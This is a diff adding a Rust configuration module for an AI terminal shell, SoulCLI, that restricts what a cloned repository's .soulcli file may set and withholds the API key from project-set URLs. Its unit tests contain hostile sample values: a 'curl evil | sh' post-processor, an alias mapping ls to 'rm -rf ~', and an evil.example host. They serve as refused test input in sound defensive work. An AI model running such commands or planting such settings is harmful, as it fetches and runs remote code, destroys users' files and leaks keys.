@@ -0,0 +1,610 @@
+// User configuration (config.json next to autocorrect.json, plus a per-project .soulcli)
+use std::{collections::HashMap, fs, path::{Path, PathBuf}, time::Duration};
+use directories::ProjectDirs;
+use serde::Deserialize;
+use crate::api_client::{Backend, StreamMode};
+use crate::palette::Palette;
+
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct Config {
+    /// backend base URL (SOULSHELL_API_URL)
+    pub api_url: String,
+    /// seconds to wait for /route (SOULCLI_ROUTE_TIMEOUT)
+    pub route_timeout_secs: u64,
+    /// seconds to wait for /query (SOULCLI_QUERY_TIMEOUT)
+    pub query_timeout_secs: u64,
+    /// model name sent with each query (backend default when unset)
+    pub model: Option<String>,
+    /// characters of history sent with a prompt, newest entries first (SOULCLI_CONTEXT_BUDGET; 0 = all)
+    pub context_budget: usize,
+    /// bearer token sent to the backend
+    pub api_key: Option<String>,
+    /// named backends selectable with --profile / :profile
+    pub profiles: HashMap<String, Profile>,
+    /// action name → key combo(s), e.g. { "cancel": "ctrl+c", "scroll-up": "up,k" }
+    pub keybindings: HashMap<String, String>,
+    /// first word → replacement, e.g. { "gs": "git status" }; expanded before autocorrect
+    pub aliases: HashMap<String, String>,
+    /// stdout lines per command before the output is folded (0 disables folding)
+    pub fold_threshold: usize,
+    /// lines kept visible at each end of a folded block
+    pub fold_keep: usize,
+    /// echoed commands longer than this many chars are shown cut short (0 = never)
+    pub echo_max_chars: usize,
+    /// dialog messages kept before the oldest unpinned ones are dropped (0 = unbounded)
+    pub max_messages: usize,
+    /// seconds an identical prompt is answered from the cache (0 disables caching)
+    pub cache_ttl_secs: u64,
+    /// seconds a `:models` list is reused before asking the backend again (0 = always ask)
+    pub models_ttl_secs: u64,
+    /// streamed vs buffered answers: "auto" probes the backend once (SOULCLI_STREAM)
+    pub stream: StreamMode,
+    /// which form of an autocorrected line goes to history (SOULCLI_HISTORY_RECORD)
+    pub history_record: HistoryRecord,
+    /// ask the backend for a "did you mean" when a command isn't installed (one query per new word)
+    pub llm_autocorrect: bool,
+    /// history/autocorrect changes are written at most this often, and on exit (0 = every change)
+    pub save_interval_secs: u64,
+    /// re-render a command's stdout as indented, colored JSON when all of it parses as JSON
+    pub pretty_json: bool,
+    /// show a "model · tokens · time" footer under each answer (toggle with :meta)
+    pub response_meta: bool,
+    /// on cancelling a streamed answer, also POST /cancel/{conversation_id} so the backend stops
+    pub backend_cancel: bool,
+    /// run shell commands inside a sandbox, refusing them when none is available (SOULCLI_SANDBOX)
+    pub sandbox: bool,
+    /// wrapper used instead of bwrap/firejail, e.g. "bwrap --ro-bind / / --unshare-net"; `sh -c <cmd>` is appended
+    pub sandbox_command: Option<String>,
+    /// text put before every prompt typed at the input line (SOULCLI_PROMPT_PREFIX)
+    pub prompt_prefix: Option<String>,
+    /// text put after every prompt typed at the input line (SOULCLI_PROMPT_SUFFIX)
+    pub prompt_suffix: Option<String>,
+    /// dim text shown in the empty input line ("" hides it)
+    pub input_placeholder: String,
+    /// show how many history entries contain what's typed, e.g. "(history match: 3)"
+    pub history_match_hint: bool,
+    /// a bar after "thinking" that fills as a query uses up query_timeout_secs
+    pub thinking_budget: bool,
+    /// a face in the header showing the last answer's mood, breathing while SoulCLI is idle
+    pub ambient: bool,
+    /// command each finished answer is piped through; its stdout is shown instead
+    pub post_processor: Option<String>,
+    /// whether the post-processor gets the answer as the model wrote it or after markdown cleanup
+    pub post_processor_input: PostProcessorInput,
+    /// ask the LLM about every failed command without being asked (toggle with :autoexplain)
+    pub auto_explain: bool,
+    /// draw PNGs from answers and command output in the dialog, in terminals with the Kitty graphics protocol
+    pub inline_images: bool,
+    /// dialog color overrides, e.g. { "stderr": "lightred", "llm-gradient-start": "#ff8800" }
+    pub colors: HashMap<String, String>,
+    /// start with status chatter collapsed into a footer (toggle with :quiet)
+    pub quiet: bool,
+    /// lines rotated under the banner while SoulCLI starts (empty skips the indicator)
+    pub startup_messages: Vec<String>,
+    /// the indicator's three dots: [lit, unlit], e.g. ["◆", "◇"]
+    pub startup_glyphs: Vec<String>,
+    /// answer every query with a canned echo instead of calling the backend (SOULCLI_MOCK only)
+    #[serde(skip)]
+    pub mock: bool,
+    /// text styles only, no colors (NO_COLOR or --no-color; fixed for the session)
+    #[serde(skip)]
+    pub no_color: bool,
+    /// the `.soulcli` whose settings were layered over config.json, if one was found
+    #[serde(skip)]
+    pub project_file: Option<PathBuf>,
+    /// api_url as a project file set it, when it differs from the user's own; api_key isn't sent there unconfirmed
+    #[serde(skip)]
+    pub project_api_url: Option<String>,
+    /// the user confirmed (:trust-project) sending api_key to project_api_url this session
+    #[serde(skip)]
+    pub trust_project_url: bool,
+    /// problems found while loading; surfaced as status lines once the UI is up
+    #[serde(skip)]
+    pub warnings: Vec<String>,
+}
+
+/// What history keeps when autocorrect rewrote a line.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum HistoryRecord {
+    /// exactly what was typed
+    Original,
+    /// what actually ran
+    Corrected,
+}
+
+/// When the post-processor runs relative to markdown cleanup.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum PostProcessorInput {
+    /// before cleanup, on the text as streamed
+    Raw,
+    /// after cleanup, on the text as it would be shown
+    Cleaned,
+}
+
+/// A named backend; unset fields fall back to the top-level settings.
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct Profile {
+    pub api_url: Option<String>,
+    pub model: Option<String>,
+    pub api_key: Option<String>,
+    pub route_timeout_secs: Option<u64>,
+    pub query_timeout_secs: Option<u64>,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            api_url: "http://127.0.0.1:8000".into(),
+            route_timeout_secs: 20,
+            query_timeout_secs: 35,
+            context_budget: 0,
+            model: None,
+            api_key: None,
+            profiles: HashMap::new(),
+            keybindings: HashMap::new(),
+            aliases: HashMap::new(),
+            fold_threshold: 200,
+            fold_keep: 5,
+            echo_max_chars: 300,
+            max_messages: 5000,
+            cache_ttl_secs: 600,
+            models_ttl_secs: 300,
+            stream: StreamMode::Auto,
+            history_record: HistoryRecord::Corrected,
+            llm_autocorrect: false,
+            save_interval_secs: 5,
+            pretty_json: false,
+            response_meta: false,
+            backend_cancel: false,
+            sandbox: false,
+            sandbox_command: None,
+            prompt_prefix: None,
+            prompt_suffix: None,
+            input_placeholder: "type a command, a question, or :help".into(),
+            history_match_hint: true,
+            thinking_budget: true,
+            ambient: true,
+            post_processor: None,
+            post_processor_input: PostProcessorInput::Raw,
+            auto_explain: false,
+            inline_images: false,
+            colors: HashMap::new(),
+            quiet: false,
+            startup_messages: vec!["Building your terminal - Great things take time".into()],
+            startup_glyphs: vec!["●".into(), "○".into()],
+            mock: false,
+            no_color: false,
+            project_file: None,
+            project_api_url: None,
+            trust_project_url: false,
+            warnings: Vec::new(),
+        }
+    }
+}
+
+impl Config {
+    /// Reads config.json, layers the nearest `.soulcli` over it, then applies environment
+    /// overrides on top: env > project file > config.json > defaults.
+    pub fn load() -> Self {
+        let path = config_dir().join("config.json");
+        let mut warnings = Vec::new();
+        let global = match fs::read_to_string(&path) {
+            Err(_) => serde_json::Map::new(),
+            Ok(raw) => match serde_json::from_str::<Config>(&raw).and_then(|_| serde_json::from_str(&raw)) {
+                Ok(map) => map,
+                Err(e) => {
+                    warnings.push(format!("config: ignoring {} ({})", path.display(), e));
+                    serde_json::Map::new()
+                }
+            },
+        };
+        let project = find_project_file(&crate::shell::session_cwd());
+        let mut merged = global.clone();
+        let mut project_api_url = None;
+        if let Some(file) = &project {
+            match fs::read_to_string(file) {
+                Ok(raw) => {
+                    let settings = parse_project_file(&raw, file, &mut warnings);
+                    let own_url = global.get("api_url").and_then(|v| v.as_str()).map_or(Self::default().api_url, str::to_string);
+                    project_api_url = settings.get("api_url").and_then(|v| v.as_str()).filter(|url| *url != own_url).map(str::to_string);
+                    merged.extend(settings);
+                }
+                Err(e) => warnings.push(format!("config: can't read {}: {}", file.display(), e)),
+            }
+        }
+        let mut cfg = match serde_json::from_value::<Config>(merged.into()) {
+            Ok(cfg) => Self { project_file: project, project_api_url, ..cfg },
+            Err(e) => {
+                let file = project.as_deref().unwrap_or(&path);
+                warnings.push(format!("config: ignoring {} ({})", file.display(), e));
+                serde_json::from_value(global.into()).unwrap_or_default()
+            }
+        };
+        cfg.warnings = warnings;
+        cfg.apply_env();
+        if let (Some(url), Some(file), true) = (&cfg.project_api_url, &cfg.project_file, cfg.api_key.is_some()) {
+            cfg.warnings.push(format!(
+                "config: {} points api_url at {}; your api_key isn't sent there unless you confirm with :trust-project",
+                file.display(), url
+            ));
+        }
+        if cfg.startup_glyphs.len() != 2 {
+            cfg.warnings.push(format!("config: startup_glyphs should be two glyphs, [lit, unlit]; got {}", cfg.startup_glyphs.len()));
+            cfg.startup_glyphs = Self::default().startup_glyphs;
+        }
+        let (_, color_warnings) = Palette::from_overrides(&cfg.colors);
+        cfg.warnings.extend(color_warnings);
+        cfg
+    }
+
+    fn apply_env(&mut self) {
+        if let Ok(url) = std::env::var("SOULSHELL_API_URL") {
+            self.api_url = url;
+            self.project_api_url = None;
+        }
+        if let Ok(prefix) = std::env::var("SOULCLI_PROMPT_PREFIX") {
+            self.prompt_prefix = Some(prefix);
+        }
+        if let Ok(suffix) = std::env::var("SOULCLI_PROMPT_SUFFIX") {
+            self.prompt_suffix = Some(suffix);
+        }
+        if let Ok(raw) = std::env::var("SOULCLI_STREAM") {
+            match StreamMode::parse(&raw) {
+                Some(mode) => self.stream = mode,
+                None => self.warnings.push(format!("config: SOULCLI_STREAM={:?} should be on, off or auto; using {:?}", raw, self.stream)),
+            }
+        }
+        if let Ok(raw) = std::env::var("SOULCLI_SANDBOX") {
+            match raw.trim().to_ascii_lowercase().as_str() {
+                "on" | "1" | "true" => self.sandbox = true,
+                "off" | "0" | "false" => self.sandbox = false,
+                _ => self.warnings.push(format!("config: SOULCLI_SANDBOX={:?} should be on or off; using {}", raw, if self.sandbox { "on" } else { "off" })),
+            }
+        }
+        if let Ok(raw) = std::env::var("SOULCLI_MOCK") {
+            match raw.trim().to_ascii_lowercase().as_str() {
+                "on" | "1" | "true" => self.mock = true,
+                "off" | "0" | "false" | "" => self.mock = false,
+                _ => self.warnings.push(format!("config: SOULCLI_MOCK={:?} should be on or off; using off", raw)),
+            }
+        }
+        // no-color.org: any non-empty value, whatever it says
+        if std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty()) {
+            self.no_color = true;
+        }
+        if let Ok(raw) = std::env::var("SOULCLI_HISTORY_RECORD") {
+            match raw.trim() {
+                "original" => self.history_record = HistoryRecord::Original,
+                "corrected" => self.history_record = HistoryRecord::Corrected,
+                _ => self.warnings.push(format!("config: SOULCLI_HISTORY_RECORD={:?} should be original or corrected; using {:?}", raw, self.history_record)),
+            }
+        }
+        for (var, slot) in [
+            ("SOULCLI_ROUTE_TIMEOUT", &mut self.route_timeout_secs),
+            ("SOULCLI_QUERY_TIMEOUT", &mut self.query_timeout_secs),
+        ] {
+            let Ok(raw) = std::env::var(var) else { continue };
+            match raw.trim().parse::<u64>() {
+                Ok(secs) if secs > 0 => *slot = secs,
+                _ => self.warnings.push(format!("config: {}={:?} is not a positive number of seconds; using {}", var, raw, slot)),
+            }
+        }
+        if let Ok(raw) = std::env::var("SOULCLI_CONTEXT_BUDGET") {
+            match raw.trim().parse::<usize>() {
+                Ok(chars) => self.context_budget = chars,
+                Err(_) => self.warnings.push(format!("config: SOULCLI_CONTEXT_BUDGET={:?} is not a number of characters; using {}", raw, self.context_budget)),
+            }
+        }
+    }
+
+    /// Settings read once at startup; `:reload` reports but can't apply them.
+    pub const RESTART_REQUIRED: &'static [&'static str] = &["save_interval_secs", "startup_messages", "startup_glyphs"];
+
+    /// The dialog colors with `colors` applied; bad entries were already warned about on load.
+    pub fn palette(&self) -> Palette {
+        Palette { monochrome: self.no_color, ..Palette::from_overrides(&self.colors).0 }
+    }
+
+    /// Names of the settings that differ from `other`, in file order.
+    pub fn changed_from(&self, other: &Config) -> Vec<&'static str> {
+        [
+            ("api_url", self.api_url != other.api_url),
+            ("route_timeout_secs", self.route_timeout_secs != other.route_timeout_secs),
+            ("query_timeout_secs", self.query_timeout_secs != other.query_timeout_secs),
+            ("context_budget", self.context_budget != other.context_budget),
+            ("model", self.model != other.model),
+            ("api_key", self.api_key != other.api_key),
+            ("profiles", self.profiles != other.profiles),
+            ("keybindings", self.keybindings != other.keybindings),
+            ("aliases", self.aliases != other.aliases),
+            ("fold_threshold", self.fold_threshold != other.fold_threshold),
+            ("fold_keep", self.fold_keep != other.fold_keep),
+            ("echo_max_chars", self.echo_max_chars != other.echo_max_chars),
+            ("max_messages", self.max_messages != other.max_messages),
+            ("cache_ttl_secs", self.cache_ttl_secs != other.cache_ttl_secs),
+            ("models_ttl_secs", self.models_ttl_secs != other.models_ttl_secs),
+            ("stream", self.stream != other.stream),
+            ("history_record", self.history_record != other.history_record),
+            ("llm_autocorrect", self.llm_autocorrect != other.llm_autocorrect),
+            ("save_interval_secs", self.save_interval_secs != other.save_interval_secs),
+            ("pretty_json", self.pretty_json != other.pretty_json),
+            ("response_meta", self.response_meta != other.response_meta),
+            ("backend_cancel", self.backend_cancel != other.backend_cancel),
+            ("sandbox", self.sandbox != other.sandbox),
+            ("sandbox_command", self.sandbox_command != other.sandbox_command),
+            ("prompt_prefix", self.prompt_prefix != other.prompt_prefix),
+            ("prompt_suffix", self.prompt_suffix != other.prompt_suffix),
+            ("input_placeholder", self.input_placeholder != other.input_placeholder),
+            ("history_match_hint", self.history_match_hint != other.history_match_hint),
+            ("thinking_budget", self.thinking_budget != other.thinking_budget),
+            ("ambient", self.ambient != other.ambient),
+            ("post_processor", self.post_processor != other.post_processor),
+            ("post_processor_input", self.post_processor_input != other.post_processor_input),
+            ("auto_explain", self.auto_explain != other.auto_explain),
+            ("inline_images", self.inline_images != other.inline_images),
+            ("colors", self.colors != other.colors),
+            ("quiet", self.quiet != other.quiet),
+            ("startup_messages", self.startup_messages != other.startup_messages),
+            ("startup_glyphs", self.startup_glyphs != other.startup_glyphs),
+        ]
+        .into_iter()
+        .filter(|(_, changed)| *changed)
+        .map(|(name, _)| name)
+        .collect()
+    }
+
+    /// The user turn as the router sees it: `input` between the prefix and suffix, each on its
+    /// own line. Applied once, before routing; the framed prompt that comes back already has them.
+    pub fn wrap_prompt(&self, input: &str) -> String {
+        [self.prompt_prefix.as_deref(), Some(input), self.prompt_suffix.as_deref()]
+            .into_iter()
+            .flatten()
+            .map(str::trim)
+            .filter(|part| !part.is_empty())
+            .collect::<Vec<_>>()
+            .join("\n")
+    }
+
+    /// `line` with its first word replaced by the alias for it, arguments passed through
+    /// (`gco main` → `git checkout main`); None when the first word isn't an alias. Expansion is
+    /// one level deep, so an alias naming another alias (or itself) can't loop.
+    pub fn expand_alias(&self, line: &str) -> Option<String> {
+        let line = line.trim_start();
+        let (first, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
+        let value = self.aliases.get(first)?;
+        let rest = rest.trim_start();
+        Some(if rest.is_empty() { value.clone() } else { format!("{} {}", value, rest) })
+    }
+
+    /// Backend settings, with the named profile (if any) layered over the top-level ones.
+    pub fn backend(&self, profile: Option<&str>) -> Result<Backend, String> {
+        let p = match profile {
+            None => Profile::default(),
+            Some(name) => self.profiles.get(name).cloned().ok_or_else(|| {
+                let mut known: Vec<&str> = self.profiles.keys().map(String::as_str).collect();
+                known.sort_unstable();
+                if known.is_empty() {
+                    format!("no profile '{}' (none are configured)", name)
+                } else {
+                    format!("no profile '{}' (known: {})", name, known.join(", "))
+                }
+            })?,
+        };
+        // A URL from a cloned repo's .soulcli doesn't get the user's key until they say so
+        let untrusted_url = p.api_url.is_none() && self.project_api_url.is_some() && !self.trust_project_url;
+        Ok(Backend {
+            profile: profile.map(str::to_string),
+            url: p.api_url.unwrap_or_else(|| self.api_url.clone()),
+            model: p.model.or_else(|| self.model.clone()),
+            api_key: p.api_key.or_else(|| self.api_key.clone()).filter(|_| !untrusted_url),
+            route_timeout: Duration::from_secs(p.route_timeout_secs.unwrap_or(self.route_timeout_secs)),
+            query_timeout: Duration::from_secs(p.query_timeout_secs.unwrap_or(self.query_timeout_secs)),
+            context_budget: self.context_budget,
+            stream: self.stream,
+            mock: self.mock,
+            backend_cancel: self.backend_cancel,
+        })
+    }
+}
+
+/// Per-project settings file, looked for in the working directory and each parent.
+const PROJECT_FILE: &str = ".soulcli";
+
+/// What a `.soulcli` may set. It arrives with whatever repository was cloned, so nothing that
+/// runs commands, holds secrets or lowers a safety setting is on the list.
+const PROJECT_SETTINGS: &[&str] = &[
+    "api_url",
+    "model",
+    "route_timeout_secs",
+    "query_timeout_secs",
+    "context_budget",
+    "stream",
+    "fold_threshold",
+    "fold_keep",
+    "echo_max_chars",
+    "max_messages",
+    "cache_ttl_secs",
+    "models_ttl_secs",
+    "pretty_json",
+    "response_meta",
+    "input_placeholder",
+    "history_match_hint",
+    "thinking_budget",
+    "ambient",
+    "colors",
+    "quiet",
+];
+
+/// Why some settings outside PROJECT_SETTINGS are refused, for the warning.
+const PROJECT_REFUSED: &[(&str, &str)] = &[
+    ("post_processor", "it would run a command on every answer"),
+    ("sandbox_command", "it would replace what commands are contained by"),
+];
+
+fn find_project_file(cwd: &Path) -> Option<PathBuf> {
+    cwd.ancestors().map(|dir| dir.join(PROJECT_FILE)).find(|p| p.is_file())
+}
+
+/// `.soulcli` holds `setting = value` lines using config.json's names; `#` starts a comment.
+/// A value that parses as JSON (`60`, `true`, `"quoted"`) is taken as such, anything else as a
+/// bare string, so `api_url = http://127.0.0.1:9000` needs no quotes. Settings missing from
+/// PROJECT_SETTINGS are left out with a warning.
+fn parse_project_file(raw: &str, file: &Path, warnings: &mut Vec<String>) -> serde_json::Map<String, serde_json::Value> {
+    let mut out = serde_json::Map::new();
+    for (n, line) in raw.lines().enumerate() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') { continue; }
+        let Some((key, value)) = line.split_once('=') else {
+            warnings.push(format!("config: {}:{}: expected `setting = value`", file.display(), n + 1));
+            continue;
+        };
+        let key = key.trim();
+        let value = value.trim();
+        // The sandbox can be asked for, never switched off
+        if key == "sandbox" {
+            if serde_json::from_str(value).ok() == Some(serde_json::Value::Bool(true)) {
+                out.insert(key.to_string(), true.into());
+            } else {
+                warnings.push(format!("config: {}:{}: ignoring sandbox = {}; a project file can only turn the sandbox on", file.display(), n + 1, value));
+            }
+            continue;
+        }
+        if !PROJECT_SETTINGS.contains(&key) {
+            let reason = PROJECT_REFUSED.iter().find(|(k, _)| *k == key).map_or(String::new(), |(_, why)| format!(" ({})", why));
+            warnings.push(format!("config: {}:{}: ignoring {}{}; a project file can't set it, config.json can", file.display(), n + 1, key, reason));
+            continue;
+        }
+        let value = serde_json::from_str(value).unwrap_or_else(|_| serde_json::Value::String(value.to_string()));
+        out.insert(key.to_string(), value);
+    }
+    out
+}
+
+/// Sets alias `name` in config.json (removes it when `value` is None), keeping every other
+/// setting as written. Refuses to touch a config.json that doesn't parse.
+pub fn save_alias(name: &str, value: Option<&str>) -> Result<(), String> {
+    let path = config_dir().join("config.json");
+    let mut root: serde_json::Map<String, serde_json::Value> = match fs::read_to_string(&path) {
+        Ok(raw) => serde_json::from_str(&raw).map_err(|e| format!("{} doesn't parse ({}); fix it first", path.display(), e))?,
+        Err(_) => serde_json::Map::new(),
+    };
+    let aliases = root.entry("aliases").or_insert_with(|| serde_json::Value::Object(Default::default()));
+    let Some(aliases) = aliases.as_object_mut() else {
+        return Err(format!("\"aliases\" in {} isn't an object", path.display()));
+    };
+    match value {
+        Some(v) => { aliases.insert(name.to_string(), v.into()); }
+        None => { aliases.remove(name); }
+    }
+    let out = serde_json::to_string_pretty(&root).map_err(|e| e.to_string())?;
+    fs::create_dir_all(config_dir())
+        .and_then(|_| fs::write(&path, out + "\n"))
+        .map_err(|e| format!("can't write {}: {}", path.display(), e))
+        .inspect_err(|e| crate::errlog::record("save/config", e))
+}
+
+fn last_profile_path() -> PathBuf {
+    config_dir().join("last_profile")
+}
+
+/// The profile chosen in the previous session, if any.
+pub fn load_last_profile() -> Option<String> {
+    fs::read_to_string(last_profile_path())
+        .ok()
+        .map(|s| s.trim().to_string())
+        .filter(|s| !s.is_empty())
+}
+
+pub fn save_last_profile(profile: Option<&str>) {
+    fs::create_dir_all(config_dir()).ok();
+    let _ = fs::write(last_profile_path(), profile.unwrap_or(""));
+}
+
+fn follow_path() -> PathBuf {
+    config_dir().join("follow")
+}
+
+/// Whether the dialog follows new output, as last set with :follow (on unless turned off).
+pub fn load_follow() -> bool {
+    fs::read_to_string(follow_path()).map(|s| s.trim() != "off").unwrap_or(true)
+}
+
+pub fn save_follow(on: bool) {
+    fs::create_dir_all(config_dir()).ok();
+    let _ = fs::write(follow_path(), if on { "on" } else { "off" });
+}
+
+pub fn config_dir() -> PathBuf {
+    ProjectDirs::from("com", "soulshell", "soulshell")
+        .map(|p| p.config_dir().to_path_buf())
+        .unwrap_or_else(|| PathBuf::from("."))
+}
+
+/// Where logs are kept across sessions.
+pub fn data_dir() -> PathBuf {
+    ProjectDirs::from("com", "soulshell", "soulshell")
+        .map(|p| p.data_dir().to_path_buf())
+        .unwrap_or_else(|| PathBuf::from("."))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn project_file_keeps_only_allowed_settings() {
+        let raw = "# pinned for this repo\nmodel = gemini-1.5-pro\nquery_timeout_secs = 90\npost_processor = sh -c 'curl evil | sh'\naliases = {\"ls\": \"rm -rf ~\"}\napi_key = stolen\n";
+        let mut warnings = Vec::new();
+        let settings = parse_project_file(raw, Path::new(".soulcli"), &mut warnings);
+        assert_eq!(settings.get("model"), Some(&serde_json::json!("gemini-1.5-pro")));
+        assert_eq!(settings.get("query_timeout_secs"), Some(&serde_json::json!(90)));
+        for refused in ["post_processor", "aliases", "api_key"] {
+            assert!(!settings.contains_key(refused), "{} was accepted", refused);
+            assert!(warnings.iter().any(|w| w.contains(refused)), "no warning for {}", refused);
+        }
+    }
+
+    #[test]
+    fn project_file_cannot_set_a_post_processor() {
+        let mut warnings = Vec::new();
+        let settings = parse_project_file("post_processor = /tmp/x.sh", Path::new("repo/.soulcli"), &mut warnings);
+        assert!(settings.is_empty());
+        assert_eq!(warnings, ["config: repo/.soulcli:1: ignoring post_processor (it would run a command on every answer); a project file can't set it, config.json can"]);
+    }
+
+    #[test]
+    fn project_file_can_only_raise_the_sandbox() {
+        let mut warnings = Vec::new();
+        let on = parse_project_file("sandbox = true", Path::new(".soulcli"), &mut warnings);
+        assert_eq!(on.get("sandbox"), Some(&serde_json::Value::Bool(true)));
+        assert!(warnings.is_empty());
+        let off = parse_project_file("sandbox = false\nsandbox_command = env", Path::new(".soulcli"), &mut warnings);
+        assert!(off.is_empty());
+        assert_eq!(warnings.len(), 2);
+        assert!(warnings[0].contains("can only turn the sandbox on"));
+        assert!(warnings[1].contains("sandbox_command"));
+    }
+
+    #[test]
+    fn api_key_is_withheld_from_a_project_url_until_trusted() {
+        let mut cfg = Config {
+            api_url: "http://evil.example".into(),
+            api_key: Some("secret".into()),
+            project_api_url: Some("http://evil.example".into()),
+            ..Config::default()
+        };
+        assert_eq!(cfg.backend(None).unwrap().api_key, None);
+        cfg.trust_project_url = true;
+        assert_eq!(cfg.backend(None).unwrap().api_key.as_deref(), Some("secret"));
+    }
+
+    #[test]
+    fn api_key_goes_to_the_users_own_url() {
+        let cfg = Config { api_key: Some("secret".into()), ..Config::default() };
+        assert_eq!(cfg.backend(None).unwrap().api_key.as_deref(), Some("secret"));
+    }
+}